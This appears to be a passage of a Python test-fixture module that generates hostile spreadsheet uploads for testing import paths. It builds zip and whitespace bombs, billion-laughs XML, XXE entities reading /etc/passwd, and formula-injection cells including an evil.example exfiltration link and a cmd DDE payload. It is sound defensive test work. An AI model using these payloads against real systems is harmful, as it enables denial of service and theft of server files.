"""Build a corpus of hostile upload files in memory, for the tests of every upload and import path.

Each :class:`HostileFile` is a name as uploaded, its bytes, the kind of path it targets (``"xlsx"`` imports,
``"csv"`` imports, ``"attachment"`` uploads) and a short threat id. Paths must refuse every file within seconds and
under 300 MB of memory, except the ones whose ``accepted`` property is true (benign controls, GBK text and formula
look-alikes, which must be imported as plain text and never written back as formulas).

The bombs stay small and fast to build: their deflate streams are one compressed block repeated many times (a full
flush makes each block independent of the ones before), written by a small zip writer, so the builder never holds
nor compresses the gigabytes they inflate to. The whole corpus builds in under two seconds and is cached; the files too
large to hold in memory at all are only available through :func:`stream`.

Plain Python on purpose: no Django, no project code, so that any test (or a script) can import it.
"""

from __future__ import annotations

import functools
import io
import itertools
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from xml.sax.saxutils import escape

KIB = 1024
MIB = 1024 * KIB
GIB = 1024 * MIB

# What the bombs claim; the tests of the corpus measure each of them.
WHITESPACE_BOMB_BYTES = GIB  # whitespace between two rows of sheet1.xml
HUGE_CELL_CHARS = 300 * MIB  # one shared string
LYING_ACTUAL_BYTES = 500 * MIB  # what the lying entry inflates to ...
LYING_CLAIMED_BYTES = 4 * KIB  # ... and the size its headers claim
NESTED_INNER_BYTES = GIB  # the entry of the zip stored as xl/media/image1.png
MANY_ROWS = 2_000_000
MANY_ENTRIES = 100_000
MANY_COLUMNS = 20_000
ENTITY_LEVELS = 10  # billion laughs: &lol9; expands to 10**9 "lol"
ENTITY_FANOUT = 10
CSV_MANY_LINES = 2_000_000
CSV_LONG_LINE_BYTES = 19 * MIB
STREAMED_LONG_LINE_BYTES = 300 * MIB

# The project's limits these files are measured against (settings.IMPORT_MAX_BYTES and
# LISTING_ATTACHMENT_MAX_BYTES by default; orgs.roster.MAX_ROWS; Excel's own sheet size).
IMPORT_LIMIT_BYTES = 20 * MIB
ATTACHMENT_LIMIT_BYTES = 10 * MIB
ROSTER_MAX_ROWS = 200_000
EXCEL_MAX_ROWS = 1_048_576
EXCEL_MAX_COLUMNS = 16_384

KINDS = ("xlsx", "csv", "attachment")
ACCEPTED_THREATS = frozenset({"benign", "benign_bom", "gbk_encoding", "formula_cells"})
ROSTER_HEADERS = ["企业名称", "统一社会信用代码"]
FORMULA_VALUES = [
    '=HYPERLINK("http://evil.example/steal","点击查看")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
]


@dataclass(frozen=True)
class HostileFile:
    """One upload: the name as sent, its bytes, the kind of path it targets and the threat it carries."""

    name: str
    content: bytes = field(repr=False)
    kind: str
    threat: str
    description: str

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"unknown kind {self.kind!r}")

    @property
    def accepted(self) -> bool:
        """Return whether the path should take the file (the benign controls, GBK text, formula look-alikes)."""
        return self.threat in ACCEPTED_THREATS

    @property
    def size(self) -> int:
        """Return the length of the content in bytes."""
        return len(self.content)

    @property
    def ident(self) -> str:
        """Return a printable, unique id for test parametrization."""
        name = self.name.encode("unicode_escape").decode("ascii")
        return f"{self.kind}-{self.threat}-{name}"


@dataclass(frozen=True)
class StreamedFile:
    """A corpus file too large to hold in memory; read its bytes with :func:`stream`."""

    name: str
    size: int
    kind: str
    threat: str
    description: str

    @property
    def accepted(self) -> bool:
        """Return whether the path should take the file (never, for the files streamed so far)."""
        return self.threat in ACCEPTED_THREATS


# --- CRC-32 of repeated data -------------------------------------------------------
# zlib's crc32_combine, which Python does not expose: the CRC of A+B from crc(A), crc(B) and len(B), by applying the
# "append len(B) zero bytes" operator (a 32x32 matrix over GF(2)) to crc(A).


def _gf2_times(matrix: Sequence[int], vector: int) -> int:
    total = 0
    index = 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: Sequence[int]) -> list[int]:
    return [_gf2_times(matrix, row) for row in matrix]


@functools.cache
def _zero_operators() -> tuple[list[int], ...]:
    """Return the operators that append 2**k zero bytes to a CRC-32, for k = 0 .. 63."""
    operator = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    for _ in range(3):
        operator = _gf2_square(operator)  # 2, 4, then 8 zero bits: one zero byte
    operators = [operator]
    for _ in range(63):
        operators.append(_gf2_square(operators[-1]))
    return tuple(operators)


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """Return the CRC-32 of A+B given crc1 = crc32(A), crc2 = crc32(B) and length2 = len(B)."""
    for bit, operator in enumerate(_zero_operators()):
        if length2 >> bit == 0:
            break
        if length2 >> bit & 1:
            crc1 = _gf2_times(operator, crc1)
    return crc1 ^ crc2


def crc32_repeat(unit: bytes, count: int) -> int:
    """Return zlib.crc32(unit * count) without building it."""
    result, power, power_length = 0, zlib.crc32(unit), len(unit)
    while count:
        if count & 1:
            result = crc32_combine(result, power, power_length)
        power = crc32_combine(power, power, power_length)
        power_length *= 2
        count >>= 1
    return result


# --- raw deflate streams and a small zip writer -------------------------------------


@dataclass(frozen=True)
class Deflated:
    """A raw deflate stream in pieces (a bomb repeats one piece object), with the CRC and length it inflates to."""

    pieces: tuple[bytes, ...]
    crc: int
    size: int

    @property
    def compressed_size(self) -> int:
        """Return the length of the stream."""
        return sum(map(len, self.pieces))


def _segment(data: bytes, level: int = 9) -> bytes:
    """Deflate data as blocks that end byte-aligned and refer to nothing before them (a full flush)."""
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def _final(data: bytes, level: int = 9) -> bytes:
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def deflate(data: bytes, level: int = 9) -> Deflated:
    """Deflate data in one go."""
    return Deflated((_final(data, level),), zlib.crc32(data), len(data))


def deflate_chunks(chunks: Iterable[bytes], level: int = 6) -> Deflated:
    """Deflate chunks as one stream, holding only one chunk of input at a time."""
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    pieces, crc, size = [], 0, 0
    for chunk in chunks:
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
        pieces.append(compressor.compress(chunk))
    pieces.append(compressor.flush())
    return Deflated(tuple(piece for piece in pieces if piece), crc, size)


def deflate_repeated(head: bytes, unit: bytes, count: int, tail: bytes) -> Deflated:
    """Deflate head + unit * count + tail, compressing unit once: its full-flushed blocks are repeated count times."""
    body = _segment(unit)
    pieces = (_segment(head), *([body] * count), _final(tail))
    crc = crc32_combine(zlib.crc32(head), crc32_repeat(unit, count), len(unit) * count)
    crc = crc32_combine(crc, zlib.crc32(tail), len(tail))
    return Deflated(pieces, crc, len(head) + len(unit) * count + len(tail))


_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")
_ZIP64_END = struct.Struct("<4sQ2H2L4Q")
_ZIP64_LOCATOR = struct.Struct("<4sLQL")
_DOS_DATE = (0 << 9) | (1 << 5) | 1  # 1980-01-01
_ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)


class ZipBuilder:
    """Write a zip archive from entries whose compressed bytes are ready (zipfile would deflate them again)."""

    def __init__(self) -> None:
        self._entries = io.BytesIO()
        self._central = bytearray()
        self._count = 0

    def add(self, name: str, data: bytes, *, compress: bool = True, level: int = 9) -> None:
        """Add an entry, deflated or stored."""
        if compress:
            self.add_deflated(name, deflate(data, level))
        else:
            self._entry(name, zipfile.ZIP_STORED, zlib.crc32(data), len(data), (data,), len(data))

    def add_deflated(self, name: str, deflated: Deflated) -> None:
        """Add an entry from a prepared deflate stream."""
        self._entry(name, zipfile.ZIP_DEFLATED, deflated.crc, deflated.size, deflated.pieces, deflated.compressed_size)

    def _entry(
        self, name: str, method: int, crc: int, size: int, pieces: Sequence[bytes], compressed_size: int
    ) -> None:
        if max(size, compressed_size) >= 0xFFFFFFFF:
            raise ValueError("entries of 4 GiB or more need zip64 extra fields, which this writer does not write")
        encoded = name.encode()
        flags = 0 if name.isascii() else 0x800  # bit 11: the name is UTF-8
        header = (b"PK\x03\x04", 20, flags, method, 0, _DOS_DATE, crc, compressed_size, size, len(encoded), 0)
        offset = self._entries.tell()
        self._central += _CENTRAL.pack(b"PK\x01\x02", 20, *header[1:], 0, 0, 0, 0, offset)
        self._central += encoded
        self._entries.write(_LOCAL.pack(*header))
        self._entries.write(encoded)
        for piece in pieces:
            self._entries.write(piece)
        self._count += 1

    def getvalue(self) -> bytes:
        """Return the archive: the entries, the central directory and its end records (zip64 when needed)."""
        count, start, length = self._count, self._entries.tell(), len(self._central)
        self._entries.write(self._central)
        if count >= 0xFFFF or start + length >= 0xFFFFFFFF:
            self._entries.write(_ZIP64_END.pack(b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, length, start))
            self._entries.write(_ZIP64_LOCATOR.pack(b"PK\x06\x07", 0, start + length, 1))
            count = 0xFFFF
        self._entries.write(_END.pack(b"PK\x05\x06", 0, 0, count, count, length, min(start, 0xFFFFFFFF), 0))
        value = self._entries.getvalue()
        self._entries.seek(start)
        self._entries.truncate()  # the builder stays usable: its central directory is written again next time
        return value


def patch_declared_size(archive: bytes, name: str, size: int) -> bytes:
    """Return archive with the uncompressed size of entry name overwritten in its local and central headers."""
    data = bytearray(archive)
    end = data.rfind(b"PK\x05\x06")
    position = struct.unpack_from("<L", data, end + 16)[0]
    encoded = name.encode()
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<3H", data, position + 28)
        if data[position + 46 : position + 46 + name_length] == encoded:
            struct.pack_into("<L", data, position + 24, size)
            local = struct.unpack_from("<L", data, position + 42)[0]
            struct.pack_into("<L", data, local + 22, size)
            return bytes(data)
        position += 46 + name_length + extra_length + comment_length
    raise KeyError(name)


# --- OOXML helpers ------------------------------------------------------------------

_XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_CONTENT_TYPES_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
_SHEET_OPEN = f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{_REL_NS}"><sheetData>'.encode()
_SHEET_CLOSE = b"</sheetData></worksheet>"
_SPREADSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_STYLES = (
    f'{_XML.decode()}<styleSheet xmlns="{MAIN_NS}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
    '</fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'
).encode()


def column_letter(index: int) -> str:
    """Return the letters of a 1-based column index (1 -> A, 27 -> AA), with no upper limit."""
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def cell_xml(reference: str, value: str | int | float | None) -> bytes:
    """Return one cell: text as an inline string, numbers as numbers, None as an empty cell."""
    if value is None:
        return f'<c r="{reference}"/>'.encode()
    if isinstance(value, str):
        space = ' xml:space="preserve"' if value != value.strip() else ""
        return f'<c r="{reference}" t="inlineStr"><is><t{space}>{escape(value)}</t></is></c>'.encode()
    return f'<c r="{reference}"><v>{value!r}</v></c>'.encode()


def shared_cell_xml(reference: str, index: int) -> bytes:
    """Return one cell that refers to shared string number index."""
    return f'<c r="{reference}" t="s"><v>{index}</v></c>'.encode()


def row_xml(number: int, values: Sequence[str | int | float | None]) -> bytes:
    """Return one row of cells from column A on."""
    cells = b"".join(cell_xml(f"{column_letter(index)}{number}", value) for index, value in enumerate(values, 1))
    return f'<row r="{number}">'.encode() + cells + b"</row>"


def roster_header_xml(cells: Sequence[str] = ROSTER_HEADERS) -> bytes:
    """Return row 1 holding the header cells."""
    return row_xml(1, cells)


def sheet_xml(rows: bytes | Iterable[bytes], doctype: bytes = b"") -> bytes:
    """Return a worksheet part holding rows (already XML), with an optional DOCTYPE before the root."""
    body = rows if isinstance(rows, bytes) else b"".join(rows)
    return _XML + doctype + _SHEET_OPEN + body + _SHEET_CLOSE


def shared_strings_xml(strings: Sequence[str], doctype: bytes = b"") -> bytes:
    """Return a shared-strings part holding strings."""
    items = b"".join(f"<si><t>{escape(text)}</t></si>".encode() for text in strings)
    head = f'<sst xmlns="{MAIN_NS}" count="{len(strings)}" uniqueCount="{len(strings)}">'.encode()
    return _XML + doctype + head + items + b"</sst>"


def workbook_xml(sheet_name: str = "会员名册", doctype: bytes = b"", *, raw_name: bool = False) -> bytes:
    """Return a workbook part with one sheet; raw_name puts sheet_name into the XML unescaped (an entity)."""
    name = sheet_name if raw_name else escape(sheet_name, {'"': "&quot;"})
    return (
        _XML
        + doctype
        + f'<workbook xmlns="{MAIN_NS}" xmlns:r="{_REL_NS}"><sheets>'
        f'<sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>'.encode()
    )


def _content_types(shared_strings: bool) -> bytes:
    overrides = [
        ("/xl/workbook.xml", f"{_SPREADSHEET_TYPE}.sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", f"{_SPREADSHEET_TYPE}.worksheet+xml"),
        ("/xl/styles.xml", f"{_SPREADSHEET_TYPE}.styles+xml"),
    ]
    if shared_strings:
        overrides.append(("/xl/sharedStrings.xml", f"{_SPREADSHEET_TYPE}.sharedStrings+xml"))
    return (
        _XML.decode()
        + f'<Types xmlns="{_CONTENT_TYPES_NS}">'
        + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        + '<Default Extension="xml" ContentType="application/xml"/>'
        + '<Default Extension="png" ContentType="image/png"/>'
        + "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
        + "</Types>"
    ).encode()


def _relationships(targets: Sequence[tuple[str, str]]) -> bytes:
    items = "".join(
        f'<Relationship Id="rId{number}" Type="{_REL_NS}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(targets, 1)
    )
    return f'{_XML.decode()}<Relationships xmlns="{_PACKAGE_REL_NS}">{items}</Relationships>'.encode()


def xlsx_parts(
    sheet_xml: bytes, shared_strings: bytes | None = None, extra: dict[str, bytes] | None = None
) -> dict[str, bytes]:
    """Return the parts of a minimal workbook, in archive order; extra adds parts or replaces them."""
    targets = [("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml")]
    if shared_strings is not None:
        targets.append(("sharedStrings", "sharedStrings.xml"))
    parts = {
        "[Content_Types].xml": _content_types(shared_strings is not None),
        "_rels/.rels": _relationships([("officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": workbook_xml(),
        "xl/_rels/workbook.xml.rels": _relationships(targets),
        "xl/worksheets/sheet1.xml": sheet_xml,
        "xl/styles.xml": _STYLES,
    }
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update(extra or {})
    return parts


def minimal_xlsx(
    sheet_xml: bytes,
    shared_strings: bytes | None = None,
    extra: dict[str, bytes] | None = None,
    compresslevel: int = 9,
) -> bytes:
    """Write a minimal workbook with zipfile: one sheet, styles, and shared strings when given."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in xlsx_parts(sheet_xml, shared_strings, extra).items():
            info = zipfile.ZipInfo(name, _ZIP_EPOCH)
            archive.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=compresslevel)
    return buffer.getvalue()


def _bomb_xlsx(
    huge: dict[str, Deflated],
    sheet: bytes = b"",
    shared_strings: bytes | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """Write a minimal workbook with ZipBuilder, taking the parts named in huge from prepared deflate streams."""
    builder = ZipBuilder()
    for name, data in xlsx_parts(sheet, shared_strings, extra).items():
        if name in huge:
            builder.add_deflated(name, huge[name])
        else:
            builder.add(name, data)
    return builder.getvalue()


_USCC_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"


def uscc(serial: int) -> str:
    """Return a valid unified social credit code (GB 32100-2015 check character) for a serial number."""
    body = f"91110108{serial:09d}"
    total = sum(_USCC_ALPHABET.index(char) * pow(3, index, 31) for index, char in enumerate(body))
    return body + _USCC_ALPHABET[(31 - total % 31) % 31]


def benign_xlsx() -> bytes:
    """Return a valid roster workbook: the header row and one enterprise, in shared strings as Excel writes them."""
    strings = [*ROSTER_HEADERS, "北京桥梁测试科技有限公司", uscc(1)]
    rows = [
        b'<row r="1">' + shared_cell_xml("A1", 0) + shared_cell_xml("B1", 1) + b"</row>",
        b'<row r="2">' + shared_cell_xml("A2", 2) + shared_cell_xml("B2", 3) + b"</row>",
    ]
    return minimal_xlsx(sheet_xml(rows), shared_strings_xml(strings))


def _numbered_rows(template: str, start: int, stop: int) -> Iterator[bytes]:
    """Yield template.format(n=N) for N in range(start, stop), encoded, 10,000 rows a chunk.

    Full blocks of 10,000 come from one prepared block whose leading digits are filled in with bytes.replace, which
    is some twenty times faster than formatting two million numbers.
    """
    block = 10_000
    prepared = None
    number = start
    while number < stop:
        prefix, offset = divmod(number, block)
        if prefix and not offset and number + block <= stop:
            if prepared is None:
                prepared = "".join(template.format(n=f"\0{index:04d}") for index in range(block)).encode()
            yield prepared.replace(b"\0", str(prefix).encode())
            number += block
        else:
            end = min(stop, (prefix + 1) * block)
            yield "".join(template.format(n=index) for index in range(number, end)).encode()
            number = end


def _entities(root: str) -> bytes:
    lines = ['<!ENTITY lol0 "lol">']
    for level in range(1, ENTITY_LEVELS):
        lines.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * ENTITY_FANOUT}">')
    return f"<!DOCTYPE {root} [\n{chr(10).join(lines)}\n]>\n".encode()


_LAUGH = f"&lol{ENTITY_LEVELS - 1};"
_PASSWD = '<!DOCTYPE {root} [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'


# --- xlsx ---------------------------------------------------------------------------
# One function per threat, so that each one's temporaries are freed before the next is built.

_HEADER_ROW = roster_header_xml()
_DATA_ROW = row_xml(2, ["北京桥梁测试科技有限公司", uscc(2)])


def _xlsx(name: str, content: bytes, threat: str, description: str) -> HostileFile:
    return HostileFile(name, content, "xlsx", threat, description)


def _huge_references() -> list[HostileFile]:
    huge_column = (
        b'<row r="1">' + cell_xml("A1", ROSTER_HEADERS[0]) + cell_xml("B1", ROSTER_HEADERS[1])
        + cell_xml("ZZZZZZZ1", "备注") + b"</row>" + _DATA_ROW
    )  # fmt: skip
    files = [
        _xlsx("roster_huge_column.xlsx", minimal_xlsx(sheet_xml(huge_column)), "huge_column_ref",
              "The header row also holds a cell at ZZZZZZZ1 (column 8,353,082,582; Excel stops at XFD, 16,384): a "
              "reader that sizes rows by their last column allocates billions of cells."),
    ]  # fmt: skip
    for number in (EXCEL_MAX_ROWS + 1, 99_999_999):
        rows = _HEADER_ROW + row_xml(number, ["北京桥梁测试科技有限公司", uscc(3)])
        files.append(_xlsx(f"roster_row_{number}.xlsx", minimal_xlsx(sheet_xml(rows)), "huge_row_ref",
                           f"A data row at r={number} (cells A{number}, B{number}), beyond Excel's "
                           f"{EXCEL_MAX_ROWS:,} rows: a reader filling the gap makes millions of rows."))  # fmt: skip
    return files


def _whitespace_bomb() -> list[HostileFile]:
    unit = b"\n" + b" " * (MIB - 1)  # 1 MiB of whitespace
    count = WHITESPACE_BOMB_BYTES // len(unit)
    sheet = deflate_repeated(_XML + _SHEET_OPEN + _HEADER_ROW, unit, count, _DATA_ROW + _SHEET_CLOSE)
    styles = deflate_repeated(_STYLES.removesuffix(b"</styleSheet>"), unit, count, b"</styleSheet>")
    sheet_only = sheet_xml(_HEADER_ROW + _DATA_ROW)
    return [
        _xlsx("roster_whitespace.xlsx", _bomb_xlsx({"xl/worksheets/sheet1.xml": sheet}), "whitespace_bomb",
              f"sheet1.xml holds {WHITESPACE_BOMB_BYTES:,} bytes (1 GiB) of whitespace between the header row and "
              "the data row; the file is about 1 MB."),
        _xlsx("roster_whitespace_styles.xlsx", _bomb_xlsx({"xl/styles.xml": styles}, sheet=sheet_only),
              "whitespace_bomb", f"styles.xml ends in {WHITESPACE_BOMB_BYTES:,} bytes (1 GiB) of whitespace; the "
              "sheet is a valid roster. A reader that loads the styles whole (zipfile's read()) holds 1 GiB."),
    ]  # fmt: skip


def _huge_cell() -> list[HostileFile]:
    head = (
        _XML
        + (
            f'<sst xmlns="{MAIN_NS}" count="3" uniqueCount="3"><si><t>{ROSTER_HEADERS[0]}</t></si>'
            f"<si><t>{ROSTER_HEADERS[1]}</t></si><si><t>"
        ).encode()
    )
    strings = deflate_repeated(head, b"A" * MIB, HUGE_CELL_CHARS // MIB, b"</t></si></sst>")
    rows = (
        b'<row r="1">' + shared_cell_xml("A1", 0) + shared_cell_xml("B1", 1) + b"</row>"
        + b'<row r="2">' + shared_cell_xml("A2", 2) + cell_xml("B2", uscc(4)) + b"</row>"
    )  # fmt: skip
    content = _bomb_xlsx({"xl/sharedStrings.xml": strings}, sheet=sheet_xml(rows), shared_strings=b"")
    return [
        _xlsx("roster_huge_cell.xlsx", content, "huge_cell",
              f"Shared string 2, the name in A2, is {HUGE_CELL_CHARS:,} times 'A' (300 MiB); the file is a few "
              "hundred KB."),
    ]  # fmt: skip


def _many_empty_rows() -> list[HostileFile]:
    files = []
    for name, template, shown in [
        ("roster_empty_rows.xlsx", '<row r="{n}"/>', '<row r="N"/>'),
        ("roster_empty_cells.xlsx", '<row r="{n}"><c r="A{n}"/></row>', '<row r="N"><c r="AN"/></row>'),
    ]:
        chunks = itertools.chain(
            [_XML + _SHEET_OPEN + _HEADER_ROW], _numbered_rows(template, 2, MANY_ROWS + 2), [_SHEET_CLOSE]
        )
        sheet = deflate_chunks(chunks, level=1)
        files.append(_xlsx(name, _bomb_xlsx({"xl/worksheets/sheet1.xml": sheet}), "many_empty_rows",
                           f"The header row, then {MANY_ROWS:,} empty rows {shown} (rows 2 to {MANY_ROWS + 1:,}; "
                           f"{sheet.size / MIB:.0f} MiB of XML): ten times the roster's {ROSTER_MAX_ROWS:,} rows "
                           "and more than an Excel sheet holds."))  # fmt: skip
    return files


def _many_columns() -> list[HostileFile]:
    cells = b"".join(
        cell_xml(f"{column_letter(index)}1", ROSTER_HEADERS[index - 1] if index <= 2 else f"列{index}")
        for index in range(1, MANY_COLUMNS + 1)
    )
    return [
        _xlsx("roster_many_columns.xlsx", minimal_xlsx(sheet_xml(b'<row r="1">' + cells + b"</row>")),
              "many_columns", f"A header row of {MANY_COLUMNS:,} cells (A1 to {column_letter(MANY_COLUMNS)}1; Excel "
              f"stops at {EXCEL_MAX_COLUMNS:,} columns, XFD)."),
    ]  # fmt: skip


def _entity_files() -> list[HostileFile]:
    laughs = (
        f"declaring {ENTITY_LEVELS} nested entities of {ENTITY_FANOUT} references each: {_LAUGH} expands to "
        f"{ENTITY_FANOUT ** (ENTITY_LEVELS - 1):,} copies of 'lol' (3 GB)"
    )
    laugh_row = f'<row r="2"><c r="A2" t="inlineStr"><is><t>{_LAUGH}</t></is></c></row>'.encode()
    shared_row = b'<row r="2">' + shared_cell_xml("A2", 0) + b"</row>"
    laugh_strings = (
        _XML
        + _entities("sst")
        + (f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{_LAUGH}</t></si></sst>').encode()
    )
    laugh_workbook = workbook_xml(_LAUGH, _entities("workbook"), raw_name=True)
    xxe_row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    xxe_strings = (
        _XML
        + _PASSWD.format(root="sst").encode()
        + (f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>').encode()
    )
    return [
        _xlsx("roster_laughs_sheet.xlsx", minimal_xlsx(sheet_xml(_HEADER_ROW + laugh_row, _entities("worksheet"))),
              "billion_laughs", f"sheet1.xml has a DOCTYPE {laughs}, used in A2."),
        _xlsx("roster_laughs_strings.xlsx", minimal_xlsx(sheet_xml(_HEADER_ROW + shared_row), laugh_strings),
              "billion_laughs", f"sharedStrings.xml has a DOCTYPE {laughs}, used in string 0 (cell A2)."),
        _xlsx("roster_laughs_workbook.xlsx",
              minimal_xlsx(sheet_xml(_HEADER_ROW + _DATA_ROW), extra={"xl/workbook.xml": laugh_workbook}),
              "billion_laughs", f"workbook.xml has a DOCTYPE {laughs}, used as the sheet's name."),
        _xlsx("roster_xxe_sheet.xlsx",
              minimal_xlsx(sheet_xml(_HEADER_ROW + xxe_row, _PASSWD.format(root="worksheet").encode())),
              "external_entity", 'sheet1.xml declares <!ENTITY xxe SYSTEM "file:///etc/passwd"> and uses &xxe; in '
              "A2: a resolving parser imports the server's /etc/passwd."),
        _xlsx("roster_xxe_strings.xlsx", minimal_xlsx(sheet_xml(_HEADER_ROW + shared_row), xxe_strings),
              "external_entity", 'sharedStrings.xml declares <!ENTITY xxe SYSTEM "file:///etc/passwd"> and uses it '
              "in string 0 (cell A2)."),
    ]  # fmt: skip


def _lying_size() -> list[HostileFile]:
    unit = b"\n" + b" " * (MIB - 1)
    count = LYING_ACTUAL_BYTES // len(unit)
    sheet = deflate_repeated(_XML + _SHEET_OPEN + _HEADER_ROW, unit, count, _DATA_ROW + _SHEET_CLOSE)
    lying_sheet = patch_declared_size(
        _bomb_xlsx({"xl/worksheets/sheet1.xml": sheet}), "xl/worksheets/sheet1.xml", LYING_CLAIMED_BYTES
    )
    workbook = deflate_repeated(workbook_xml().removesuffix(b"</workbook>"), unit, count, b"</workbook>")
    lying_workbook = patch_declared_size(
        _bomb_xlsx({"xl/workbook.xml": workbook}, sheet=sheet_xml(_HEADER_ROW + _DATA_ROW)),
        "xl/workbook.xml",
        LYING_CLAIMED_BYTES,
    )
    claim = (
        f"claim {LYING_CLAIMED_BYTES:,} bytes, but it inflates to {LYING_ACTUAL_BYTES:,} (500 MiB; its CRC is that "
        "of the whole): a size check on the headers passes"
    )
    return [
        _xlsx("roster_lying_size.xlsx", lying_sheet, "lying_zip_size",
              f"The local and central headers of sheet1.xml {claim}; a streaming reader that trusts them stops after "
              f"{LYING_CLAIMED_BYTES:,} bytes on a bad CRC."),
        _xlsx("roster_lying_workbook.xlsx", lying_workbook, "lying_zip_size",
              f"The local and central headers of workbook.xml {claim}, and zipfile's read() inflates all of it in "
              "one call before it checks the size (500 MB in memory)."),
    ]  # fmt: skip


def _zip_bombs() -> list[HostileFile]:
    builder = ZipBuilder()
    for name, data in xlsx_parts(sheet_xml(_HEADER_ROW + _DATA_ROW)).items():
        builder.add(name, data)
    for index in range(MANY_ENTRIES):
        builder.add(f"x/{index:05d}", b"x", compress=False)
    many = builder.getvalue()
    del builder
    inner = ZipBuilder()
    inner.add_deflated("image1.bmp", deflate_repeated(b"", bytes(MIB), NESTED_INNER_BYTES // MIB, b""))
    nested = minimal_xlsx(sheet_xml(_HEADER_ROW + _DATA_ROW), extra={"xl/media/image1.png": inner.getvalue()})
    return [
        _xlsx("roster_many_entries.xlsx", many, "many_entries",
              f"A valid workbook plus {MANY_ENTRIES:,} one-byte entries (with a zip64 end record): listing or "
              f"extracting the archive means {MANY_ENTRIES:,} headers."),
        _xlsx("roster_nested_zip.xlsx", nested, "zip_bomb_nested",
              f"A valid workbook whose xl/media/image1.png is another zip, holding {NESTED_INNER_BYTES:,} bytes "
              "(1 GiB) of zeros: a recursive scanner or an image check inflates it."),
    ]  # fmt: skip


def _not_zips() -> list[HostileFile]:
    benign = benign_xlsx()
    return [
        _xlsx("roster.xlsx", random.Random(1).randbytes(64 * KIB), "not_a_zip", "64 KiB of random bytes."),
        _xlsx("roster_pdf.xlsx", minimal_pdf(), "not_a_zip", "A valid PDF renamed .xlsx."),
        _xlsx("roster_empty.xlsx", b"", "not_a_zip", "An empty file."),
        _xlsx("roster_truncated.xlsx", benign[: len(benign) // 2], "not_a_zip",
              "The first half of a valid roster workbook: local headers, no central directory."),
        _xlsx("roster_old.xlsx", ole2_file(), "not_a_zip",
              "An empty OLE2 compound file (D0 CF 11 E0 ...), the container of old .xls workbooks, renamed .xlsx."),
    ]  # fmt: skip


def _formula_cells() -> list[HostileFile]:
    text_rows = [_HEADER_ROW]
    for number, value in enumerate(FORMULA_VALUES, 2):
        text_rows.append(row_xml(number, [value, uscc(100 + number)]))
    formula_rows = [_HEADER_ROW]
    for number, value in enumerate(FORMULA_VALUES[:2], 2):
        formula = f'<c r="A{number}" t="str"><f>{escape(value[1:])}</f><v>企业{number}</v></c>'.encode()
        formula_rows.append(f'<row r="{number}">'.encode() + formula + cell_xml(f"B{number}", uscc(200 + number))
                            + b"</row>")  # fmt: skip
    return [
        _xlsx("roster_formula_text.xlsx", minimal_xlsx(sheet_xml(text_rows)), "formula_cells",
              "A valid roster whose names are text starting with =, +, - or @ (=HYPERLINK(...), =cmd|'/c calc'!A1, "
              "...): accept them as text; an export must not write them back as formulas."),
        _xlsx("roster_formula_cells.xlsx", minimal_xlsx(sheet_xml(formula_rows)), "formula_cells",
              "A valid roster whose name cells are real formulas (<f>HYPERLINK(...)</f>, <f>cmd|...</f>) with cached "
              "text values (企业2, 企业3): import the values, never keep or export the formulas."),
    ]  # fmt: skip


